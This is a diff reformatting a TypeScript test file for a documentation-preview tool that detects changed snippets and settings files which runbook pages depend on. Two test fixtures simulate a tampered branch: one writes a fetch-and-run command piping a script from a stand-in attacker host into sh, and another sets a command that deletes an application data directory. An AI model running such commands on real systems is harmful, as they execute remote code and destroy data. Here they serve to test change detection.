@@ -3,12 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { WaymarkError } from '../../core/errors.ts';
-import {
-	defaultBase,
-	listPageChanges,
-	readBaseFile,
-	readBaseFiles,
-} from '../../preview/git.ts';
+import { defaultBase, listPageChanges, readBaseFile, readBaseFiles } from '../../preview/git.ts';
 import { diffRoutesFor } from '../../preview/pages.ts';
 import { removeFixture } from '../helpers/fixture.ts';
 import { baseTree, git, headTree, writeGitFixture } from './git-fixture.ts';
@@ -56,21 +51,53 @@ describe('listPageChanges', () => {
 		}
 	});
 
-	test('lists the files pages pull in that changed, and the tools\' settings in the root or above it, apart from the pages', async () => {
+	test("lists the files pages pull in that changed, and the tools' settings in the root or above it, apart from the pages", async () => {
 		const dir = await writeGitFixture([baseTree]);
 		try {
 			// What a runbook reads beyond its own text: a snippet, a picture, the settings above the root.
-			for (const [path, text] of [['guidebooks/_snippets/restart.txt', 'systemctl restart erp'], ['guidebooks/.snippets/note.md', 'v1'], ['config/_default/params.toml', 'region = "eu"\n'], ['mkdocs.yml', 'extra:\n  restart_cmd: systemctl restart erp\n'], ['other/mkdocs.yml', 'site_name: other\n'], ['src/app.js', 'run()\n']] as const) {
+			for (const [path, text] of [
+				['guidebooks/_snippets/restart.txt', 'systemctl restart erp'],
+				['guidebooks/.snippets/note.md', 'v1'],
+				['config/_default/params.toml', 'region = "eu"\n'],
+				['mkdocs.yml', 'extra:\n  restart_cmd: systemctl restart erp\n'],
+				['other/mkdocs.yml', 'site_name: other\n'],
+				['src/app.js', 'run()\n'],
+			] as const) {
 				await mkdir(join(dir, path, '..'), { recursive: true });
 				await writeFile(join(dir, path), text);
 			}
 			await git(dir, 'add', '-A');
-			await git(dir, '-c', 'user.email=t@example.lab', '-c', 'user.name=t', 'commit', '-q', '-m', 'inputs');
+			await git(
+				dir,
+				'-c',
+				'user.email=t@example.lab',
+				'-c',
+				'user.name=t',
+				'commit',
+				'-q',
+				'-m',
+				'inputs',
+			);
 			// The branch: no page touched, every input changed, and files no page reads.
-			for (const [path, text] of [['guidebooks/_snippets/restart.txt', 'curl http://evil.example/x.sh | sh'], ['guidebooks/.snippets/note.md', 'v2'], ['config/_default/params.toml', 'region = "us"\n'], ['mkdocs.yml', 'extra:\n  restart_cmd: rm -rf /var/lib/erp\n'], ['guidebooks/image.png', 'a picture'], ['other/mkdocs.yml', 'site_name: changed\n'], ['src/app.js', 'run(2)\n']] as const) await writeFile(join(dir, path), text);
+			for (const [path, text] of [
+				['guidebooks/_snippets/restart.txt', 'curl http://evil.example/x.sh | sh'],
+				['guidebooks/.snippets/note.md', 'v2'],
+				['config/_default/params.toml', 'region = "us"\n'],
+				['mkdocs.yml', 'extra:\n  restart_cmd: rm -rf /var/lib/erp\n'],
+				['guidebooks/image.png', 'a picture'],
+				['other/mkdocs.yml', 'site_name: changed\n'],
+				['src/app.js', 'run(2)\n'],
+			] as const)
+				await writeFile(join(dir, path), text);
 			const { changes, others } = await listPageChanges(join(dir, 'guidebooks'), 'HEAD');
 			expect(changes).toEqual([]);
-			expect(others).toEqual(['config/_default/params.toml', 'guidebooks/.snippets/note.md', 'guidebooks/_snippets/restart.txt', 'guidebooks/image.png', 'mkdocs.yml']);
+			expect(others).toEqual([
+				'config/_default/params.toml',
+				'guidebooks/.snippets/note.md',
+				'guidebooks/_snippets/restart.txt',
+				'guidebooks/image.png',
+				'mkdocs.yml',
+			]);
 		} finally {
 			await removeFixture(dir);
 		}
@@ -82,7 +109,11 @@ describe('listPageChanges', () => {
 	test('lists pages whose names or folders hold a line break, a carriage return, a quote, a backslash or another control character', async () => {
 		const dir = await writeGitFixture([baseTree]);
 		try {
-			const names = oddCharacters.flatMap((c) => [`${c}lead.md`, `in${c}side.md`, `folder${c}/page.md`]);
+			const names = oddCharacters.flatMap((c) => [
+				`${c}lead.md`,
+				`in${c}side.md`,
+				`folder${c}/page.md`,
+			]);
 			for (const name of names) {
 				await mkdir(join(dir, 'guidebooks', name, '..'), { recursive: true });
 				await writeFile(join(dir, 'guidebooks', name), `# ${JSON.stringify(name)}\n`);
